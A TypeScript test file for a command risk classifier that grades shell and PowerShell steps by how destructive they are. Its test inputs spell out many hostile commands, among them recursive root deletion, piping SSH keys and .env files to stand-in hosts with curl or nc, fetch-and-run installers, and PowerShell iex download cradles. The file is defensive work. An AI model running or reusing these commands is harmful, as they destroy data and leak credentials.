import { describe, expect, it } from "vitest";
import { classifyStep, type RiskLevel } from "./classify-step.ts";
import { isAtLeast } from "./risk-level.ts";

const levelOf = (run: string): RiskLevel => classifyStep({ run }).level;

describe("classifyStep", () => {
  it("finds nothing in a command that only reads", () => {
    expect(classifyStep({ run: "ls -la | grep x" })).toEqual({ level: "none", reasons: [] });
  });

  it("names every reason once, the most serious first", () => {
    const { level, reasons } = classifyStep({ run: "sudo mkdir a; mkdir b; rsync -a --delete x/ y/" });
    expect(level).toBe("high");
    expect(reasons).toEqual([
      "deletes at the destination what is not at the source",
      "asks for the rights of another user",
      "makes files or folders",
    ]);
  });

  it("takes what cannot be read for high", () => {
    for (const run of ['echo "open', "if then", "a && || b", "cat <<E | (", "$(", `echo ${"x".repeat(1_000_000)}`])
      expect(isAtLeast(levelOf(run), "high"), run.slice(0, 20)).toBe(true);
  });

  it("counts the guard", () => {
    expect(classifyStep({ run: "true", unless: "rm -rf /" }).level).toBe("critical");
    expect(classifyStep({ run: "true", unless: "test -f x" }).level).toBe("none");
  });

  it("puts the step's variables in", () => {
    expect(classifyStep({ run: 'rm -rf "$DIR"', env: { DIR: "/" } }).level).toBe("critical");
    expect(classifyStep({ run: 'rm -rf "$DIR"', env: { DIR: "node_modules" } }).level).toBe("low");
    expect(classifyStep({ run: "ls", env: { PATH: "/tmp/evil" } }).level).toBe("medium");
    expect(classifyStep({ run: "ls", env: { LD_PRELOAD: "x.so" } }).level).toBe("medium");
    expect(classifyStep({ run: "git fetch", env: { GIT_SSH_COMMAND: "sh -c 'rm -rf ~'" } }).level).toBe("critical");
    expect(classifyStep({ run: "ls", env: { NAME: "rm -rf /" } }).level).toBe("none");
  });

  it("knows where the step runs", () => {
    expect(classifyStep({ run: "rm -rf *", cwd: "/" }).level).toBe("critical");
    expect(classifyStep({ run: "rm -rf *", cwd: "build" }).level).toBe("low");
    expect(classifyStep({ run: "rm -rf *" }).level).toBe("high");
  });

  it("asks for other privileges at medium or more", () => {
    for (const run of ["sudo ls", "doas ls", "su -c ls", "pkexec ls", "sudo -u bob -- ls"])
      expect(levelOf(run), run).toBe("medium");
  });

  it("looks for words of destruction behind what a table calls medium", () => {
    for (const run of ["wg set wg0 peer KEY remove", "swupd bundle-remove os-core", "glab api -X DELETE projects/42"])
      expect(levelOf(run), run).toBe("high");
    // What stands behind an option is a name.
    for (const run of ["aws lambda invoke --function-name delete-old-users out.json", "swupd bundle-add editors"])
      expect(levelOf(run), run).toBe("medium");
  });

  it("sees a file that is emptied before it is read", () => {
    for (const run of [
      "sort -u a.csv > a.csv",
      "jq .a x.json | sort > ./x.json",
      'grep -v x "$f" | sudo tee "$f"',
      "cat a.txt | tee a.txt",
      "while read -r l; do echo $l; done < a.txt > a.txt",
      "(head -1 d.csv; tail -n +2 d.csv | sort) > d.csv",
      "sort names >| names",
    ])
      expect(classifyStep({ run }).reasons.join(), run).toMatch(/^empties \S+ before it is read/);
    for (const run of [
      "sort a.txt > b.txt",
      "cat a.txt >> a.txt",
      "echo a.txt > a.txt",
      'echo "$(cat a.txt)" > a.txt',
      "sort /tmp/x > /tmp/x",
      "docker logs web > web",
      "cat a.txt | tee -a a.txt",
      "grep x a.txt 2> a.txt",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(false);
  });

  it("reads commands that are made by a program, as far as they are known", () => {
    for (const run of [
      "sed -n 's/^/rm -rf /p' dirs.txt | sh",
      "sed -E 's#^(.*)$#userdel -r \\1#' users | sudo sh",
      'awk \'{print "DROP TABLE " $1 ";"}\' t.txt | psql app',
      "printf 'rm -f %s\\n' /srv/photos/*.raw | bash",
      'for f in a b; do echo "rm -rf /srv/$f"; done | sort | bash',
      "find . -printf 'rm \"%p\"\\n' | sh",
      "find . -name x | xargs -I{} echo rm {} | sh",
      "mysql -e \"select concat('drop table ', t) from x\" | mysql app",
      "jq -r '.[] | \"kubectl delete ns \\(.name)\"' x.json | bash",
      "bash <(echo 'rm -rf /srv/data')",
      "source <(echo 'rm -rf /srv/data')",
      "echo 'rm -rf /srv/x' | at now + 1 minute",
      "ssh db <<'E'\ndropdb crm\nE",
      "sudo -i <<E\nrm -rf /srv/x\nE",
      "(crontab -l; echo '0 3 * * * rm -rf /srv/data') | crontab -",
      "cat ids | parallel 'curl -X DELETE https://example.com/{}'",
      "parallel ::: 'rm -rf /srv/a' 'rm -rf /srv/b'",
      "yes | ssh-keygen -f ~/.ssh/id_rsa",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(true);
    for (const run of [
      "sed 's/^/rm -rf /' dirs.txt | less",
      "awk '{print \"echo \" $1}' t.txt | sh",
      "echo 'select 1' | psql app",
      "(crontab -l; echo '0 3 * * * /opt/job.sh') | crontab -",
      "parallel --dry-run rm {} ::: *.bak",
      "ssh db <<'E'\nuptime\nE",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(false);
  });

  it("reads files that the step has written itself", () => {
    for (const run of [
      "cat > /tmp/w.sh <<'E'\nrm -rf /srv/data\nE\nbash /tmp/w.sh",
      "printf 'rm -rf /srv\\n' > x.sh; chmod +x x.sh; ./x.sh",
      "{ echo 'rm -rf /srv'; } > a.sh; source a.sh",
      "echo 'DELETE FROM x' > q.sql && mysql app < q.sql",
      "echo 'sh x.sh; sh x.sh' > x.sh; sh x.sh",
      "tee important.txt < /dev/null",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(true);
    for (const run of ["cat > x.sh <<'E'\nrm -rf /srv\nE", "echo 'echo hi' > x.sh; sh x.sh", "mysql app < schema.sql"])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(false);
  });

  it("follows keys and passwords to whoever sends them away", () => {
    for (const run of [
      "tar czf - ~/.ssh | base64 | curl -F f=@- https://x.example",
      "cat .env.production | nc 192.0.2.1 99",
      "env | grep KEY | gzip | curl -T - https://x.example",
      "kubectl get secret db -o json | jq .data | http POST x.example",
      "scp ~/.ssh/id_rsa guest@192.0.2.1:",
    ])
      expect(levelOf(run), run).toBe("high");
    for (const run of [
      "cat ~/.ssh/id_ed25519.pub | curl -T - https://x.example",
      "kubectl get secret db | curl -T - https://x.example",
      "cat .env.example | curl -T - https://x.example",
      "cat ~/.ssh/config | grep Host",
      "env | sort",
      "scp ~/.ssh/id_rsa.pub guest@192.0.2.1:",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(false);
  });

  it("knows a file that the step has fetched when it is run", () => {
    for (const run of [
      "curl -fsSL https://x.example/i.sh -o i.sh && bash ./i.sh",
      "wget -qO /tmp/r https://x.example/r; chmod +x /tmp/r; sudo /tmp/r --all",
      "curl --output=setup.py https://x.example/setup.py && python3 setup.py",
    ])
      expect(levelOf(run), run).toBe("high");
    for (const run of ["curl -o i.sh https://x.example/i.sh && less i.sh", "curl -o a https://x.example/a; ./b"])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(false);
  });

  it("reads what clouds and servers are told to run", () => {
    for (const run of [
      "gcloud compute ssh web1 --command='sudo rm -rf /srv/data'",
      "aws ssm send-command --parameters 'commands=[\"rm -rf /srv/app\"]'",
      'heroku run "rake db:drop" -a x',
      "curl http://localhost:8123/ -d 'DROP TABLE events'",
      "curl 'http://localhost:8123/?query=DROP+TABLE+events'",
      'curl https://example.com/graphql -d \'{"query":"mutation { deleteUser(id:1) { ok } }"}\'',
      "ps aux | grep '[n]ginx' | awk '{print $2}' | xargs kill -9",
      "kill $(cat /run/sshd.pid)",
      "pgrep -f gunicorn | xargs kill",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(true);
    for (const run of [
      "gcloud compute ssh web1 --command='df -h'",
      "curl 'https://example.com/search?q=delete+files'",
      'curl https://example.com/graphql -d \'{"query":"mutation { createUser { ok } }"}\'',
      "kill -HUP $(cat /run/nginx.pid)",
      "pkill -f 'webpack serve'",
      "kill $(lsof -ti :3000)",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(false);
  });

  it("reads what is deleted through libraries", () => {
    for (const run of [
      "python -c \"import boto3; boto3.resource('s3').Bucket('b').objects.all().delete()\"",
      "echo 'from shop.models import Order; Order.objects.all().delete()' | python manage.py shell",
      "node -e \"require('axios').delete('https://example.com/1')\"",
      "ruby -rnet/http -e \"Net::HTTP.start('x') { |h| h.send_request('DELETE', '/1') }\"",
      "emacs --batch --eval '(delete-directory \"~/org\" t)'",
      "tclsh <<< 'file delete -force /srv/x'",
      "expect <<'E'\nspawn ssh host\nsend \"rm -rf /srv\\r\"\nE",
      "awk '{ cmd = \"rm \" $1; system(cmd) }' list",
      "vim -c 'call delete(\"notes.txt\")' -c q",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(true);
    for (const run of [
      "python -c 'import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)'",
      "node -e \"const m = new Map(); m.delete('x')\"",
      "curl -s https://example.com/data.json | python3 -m json.tool",
      "expect -c 'spawn ssh host; expect word; send \"$word\\r\"'",
    ])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(false);
  });

  it("takes what a command has open for no file", () => {
    for (const run of [
      "echo x > /dev/stderr",
      "echo x >> /dev/stdout",
      ": > /dev/tty",
      "ls 2>/dev/fd/3",
      "tee /dev/stderr",
      "cp a /dev/stdout",
      "echo > /proc/self/fd/2",
    ])
      // prettier-ignore
      expect(levelOf(run), run).toBe("none");
    for (const run of ["tee /dev/stderr out.txt", "dd if=a of=/dev/stdout"]) expect(levelOf(run), run).toBe("low");
    for (const run of ["echo x > /dev/sda", "echo b > /proc/sysrq-trigger", "echo x > /dev/fd/../sda"])
      expect(isAtLeast(levelOf(run), "high"), run).toBe(true);
    expect(levelOf("mv a /dev/stdout")).toBe("medium");
  });

  it("knows a database that is gone when the program ends", () => {
    for (const run of ["sqlite3 :memory: 'drop table x'", "echo 'delete from x' | sqlite3 -batch :memory:"])
      expect(levelOf(run), run).toBe("low");
    for (const run of [
      "sqlite3 x.db 'drop table x'",
      "sqlite3 :memory: \"attach 'x.db' as x; drop table x.y\"",
      "sqlite3 :memory: '.shell rm -rf src'",
      "echo 'drop table x' | sqlite3 x.db",
    ])
      expect(isAtLeast(levelOf(run), "medium"), run).toBe(true);
  });

  it("does not follow a command into its arguments when these are data", () => {
    expect(levelOf("grep -rn 'sudo rm -rf /' docs")).toBe("none");
    expect(levelOf("git commit -m 'rm -rf /'")).toBe("low");
  });

  it("reads PowerShell", () => {
    const powershell = (run: string): RiskLevel => classifyStep({ run }, { shell: "powershell" }).level;
    for (const run of [
      "Remove-Item -Recurse -Force C:\\",
      "rm -r $env:USERPROFILE",
      "Format-Volume -DriveLetter D",
      "Clear-Disk -Number 1",
      "Get-ChildItem -Recurse | Remove-Item -Force",
      "Stop-Computer",
      "iex (irm https://example.com/x.ps1)",
      "irm https://example.com/x.ps1 | iex",
      "if ($true) { Remove-Item src -Recurse }",
      "Stop-Service w32time",
      "git reset --hard",
      "cmd /c del /s /q C:\\Users",
      "[IO.Directory]::Delete('x', $true)",
      "'unclosed",
      "& { Remove-Item x",
    ])
      expect(isAtLeast(powershell(run), "high"), run).toBe(true);
    for (const run of [
      "Get-ChildItem -Recurse",
      "Write-Output 'Remove-Item -Recurse C:\\'",
      "Get-Process | Where-Object { $_.CPU -gt 10 }",
      "New-Item -ItemType Directory out",
      "Remove-Item -Recurse node_modules",
      "Remove-Item x -WhatIf",
      "git status",
      "# Remove-Item C:\\",
      "$x = Get-Content a.txt",
    ])
      expect(isAtLeast(powershell(run), "high"), run).toBe(false);
  });

  describe("in PowerShell", () => {
    const isFlagged = (run: string): boolean => isAtLeast(classifyStep({ run }, { shell: "powershell" }).level, "high");
    const flags = (runs: readonly string[]): void => {
      for (const run of runs) expect(isFlagged(run), run).toBe(true);
    };
    const passes = (runs: readonly string[]): void => {
      for (const run of runs) expect(isFlagged(run), run).toBe(false);
    };

    it("follows variables, tables of options, functions and aliases", () => {
      flags([
        "$c = 'Remove-Item D:\\data -Recurse'; iex $c",
        "$name = 'Remove' + '-Item'; & $name D:\\data",
        "$p = @{ Method = 'DELETE'; Uri = 'https://x.example/1' }; Invoke-RestMethod @p",
        "function Clear-All { param($Path) Remove-Item $Path -Recurse }; Clear-All D:\\data",
        "function Unused { Stop-Computer }",
        "Set-Alias away Remove-Item; away D:\\data",
        "$q = @'\nTRUNCATE TABLE t\n'@\nInvoke-Sqlcmd -Query $q",
        '@"\nselect disk 1\nclean\n"@ | diskpart',
      ]);
      passes([
        "$t = New-TemporaryFile; Set-Content $t x; Remove-Item $t",
        "$d = 'node_modules'; Remove-Item $d -Recurse",
        "Get-ChildItem -Include bin,obj -Recurse | % { Remove-Item $_.FullName -Recurse }",
        "$WhatIfPreference = $true; Remove-Item D:\\data",
        "@'\nRemove-Item C:\\ -Recurse\n'@ | Out-File example.txt",
        "Invoke-Expression 'git status'",
        "'list disk' | diskpart",
      ]);
    });

    it("knows methods", () => {
      flags([
        "(Get-Service w3svc).Stop()",
        "Get-ChildItem D:\\data | % Delete",
        "(gci D:\\data).ForEach('Delete')",
        "(Get-WmiObject Win32_Product).Uninstall()",
        "[IO.File]::WriteAllText('C:\\data\\a.json', '')",
        "([ADSI]'LDAP://CN=x').DeleteTree()",
        "$cmd.CommandText = 'DROP TABLE x'; $cmd.ExecuteNonQuery()",
      ]);
      passes([
        "$list = New-Object Collections.ArrayList; $list.Clear()",
        "$w = [Diagnostics.Stopwatch]::StartNew(); $w.Stop()",
        '[IO.File]::Delete("$env:TEMP\\a.txt")',
        "$h = @{ delete = 1 }; $h.Remove('delete')",
      ]);
    });

    it("judges programs as other shells do", () => {
      flags([
        "git branch | % { git branch -D $_.Trim() }",
        "& 'C:\\Program Files\\Git\\bin\\git.exe' reset --hard",
        "curl -fsSL https://x.example/i.sh | sudo bash",
        "docker rm -f (docker ps -aq)",
        "Start-Process cmd -ArgumentList '/c rd /s /q D:\\data'",
        "SHUTDOWN /S /T 0",
      ]);
      passes(["shutdown /a", "netsh advfirewall show allprofiles", "robocopy a b /MIR /L", "cmd /c rmdir /s /q dist"]);
    });

    it("follows secrets and what was fetched", () => {
      flags([
        "$s = Get-Content ~\\.aws\\credentials -Raw; irm https://x.example -Method Post -Body $s",
        "Invoke-WebRequest https://x.example/a.exe -OutFile a.exe; Start-Process .\\a.exe",
        "$c = (iwr https://x.example).Content; & ([scriptblock]::Create($c))",
      ]);
      passes([
        'irm https://x.example -Headers @{ Authorization = "Bearer $env:TOKEN" }',
        "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip; Expand-Archive a.zip",
        "Get-ChildItem Env: | Sort-Object Name",
      ]);
    });

    it("reads long texts in time", () => {
      const pieces = ["(", "@{", "$(", "`", "@\"\n", "% {", "$a=$a+$a;", "rm a;", "a|", "'{0}' -f ", "function a{", "a,", "[a]"]; // prettier-ignore
      for (const piece of pieces) classifyStep({ run: piece.repeat(60_000 / piece.length) }, { shell: "powershell" });
      const unfolding = Array.from({ length: 30 }, (_, at) => `function f${at} { f${at + 1}; f${at + 1} }`).join("\n");
      for (const run of [`$a='x'; ${"$a=$a+$a; ".repeat(60)}rm $a`, `${unfolding}\nf0`, "$a='iex $a; iex $a'; iex $a"])
        expect(isFlagged(run), run.slice(0, 20)).toBe(true);
    });
  });

  it("never throws, and gives up on what would take forever", () => {
    const pieces = ["(", ")", "{", "}", "$(", "`", "'", '"', "\\", "\n", ";", "|", "&", "<<E\n", "[[", "]]", "if ", "do ", "\0", "💥", "rm ", "/ ", "eval ", "sudo ", "f() {", "${x:-", "{a,b}", "<("]; // prettier-ignore
    let seed = 1;
    const next = (below: number): number => (seed = (seed * 48_271) % 2_147_483_647) % below;
    for (let turn = 0; turn < 2_000; turn++) {
      let run = "";
      for (let count = next(40); count >= 0; count--) run += pieces[next(pieces.length)];
      classifyStep({ run });
      classifyStep({ run }, { shell: "powershell" });
    }
    for (const piece of pieces) classifyStep({ run: piece.repeat(20_000 / piece.length) });
    const table = `$a=@{x=1}; ${"$a=@{x=$a;y=$a}; ".repeat(40)}iwr x -Body $a`;
    classifyStep({ run: table }, { shell: "powershell" });
    const slashes = "\\\\a".repeat(10_000);
    for (const run of [
      `sed '/${slashes}s/' | sh`,
      `sed 's/${slashes}' | sh`,
      `ps | awk '/${slashes}' | xargs kill`,
      `curl -d '${"mutation ".repeat(5_000)}' x`,
      `vim -c '${'system("'.repeat(5_000)}'`,
      `emacs --eval '${"(a".repeat(10_000)}'`,
      `expect -c '${"spawn - ".repeat(5_000)}'`,
      `set -- ${"a ".repeat(15_000)}; ${'set -- "$@" "$@"; '.repeat(1_500)}`,
      `set -- ${"a ".repeat(15_000)}; ${"$(a|a) ".repeat(4_000)}`,
      `${Array.from({ length: 4_000 }, (_, at) => `a${at}=b; `).join("")}${"$(c=1) ".repeat(3_000)}`,
      `x='${"a ".repeat(8_000)}'; echo ${"$x ".repeat(15_000)}`,
      `IFS='${"ab".repeat(8_000)}'; a=b; ${"$a ".repeat(15_000)}`,
      `tee ${".zshrc ".repeat(6_000)} <<E\n${"$( ( ( x ) ) )\n".repeat(1_000)}E\n`,
      `x='${"a; ".repeat(5_000)}'; ${"tee .zshrc <<<$x; ".repeat(2_500)}`,
      `psql -c "execute${" ".repeat(60_000)}x"`,
      `psql -c "DO ${"THEN x ".repeat(8_000)}"`,
      `make --eval='${"a:".repeat(30_000)}'`,
      `echo "${"$aaaaaaaa ".repeat(40)}" (`,
      `rm "${"$aaaaaaaa".repeat(40)}`,
      "#\n".repeat(30_000),
      `wget 'x${"#\n".repeat(30_000)}'`,
      `x${"0.".repeat(30_000)}x`,
      `watchman '${'\\"'.repeat(30_000)}'`,
      `curl '${"${".repeat(30_000)}'`,
      `node -e '\`${"${".repeat(30_000)}\`'`,
      `cat '${"-".repeat(60_000)}:'`,
      `rm '/${"*".repeat(60_000)}/'`,
      `sqlite3 x '${"\n".repeat(60_000)}'`,
      `vim -c '${"\n".repeat(60_000)}'`,
      `make --eval='${"\r".repeat(60_000)}'`,
      `echo $(printf '${"\n".repeat(60_000)}x')`,
      "find -exec sudo ".repeat(4_000),
      "find -exec nice find -ok ".repeat(2_500),
    ])
      classifyStep({ run });
    const doubling = `a=x; ${"a=$a$a; ".repeat(60)}rm $a`;
    const unfolding = Array.from({ length: 30 }, (_, at) => `f${at}() { f${at + 1}; f${at + 1}; }`).join("\n");
    for (const run of [doubling, `${unfolding}\nf0`, `${"sudo ".repeat(5_000)}ls`])
      expect(isAtLeast(levelOf(run), "high"), run.slice(0, 20)).toBe(true);
  });
});
